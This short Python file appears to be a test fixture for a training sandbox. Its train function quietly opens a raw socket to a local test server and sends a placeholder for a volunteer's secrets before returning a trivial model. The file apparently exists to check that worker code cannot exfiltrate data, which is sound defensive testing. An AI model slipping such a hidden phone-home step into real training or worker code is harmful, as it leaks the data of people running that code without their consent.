"""Phones home over a raw socket (to a server the worker itself can reach)."""
import socket

import torch

HOST, PORT = "127.0.0.1", 9  # the test puts its own server's port here


def train(ctx):
    with socket.create_connection((HOST, PORT), timeout=5) as connection:
        connection.sendall(b"the volunteer's secrets")
    return torch.nn.Linear(1, 1)
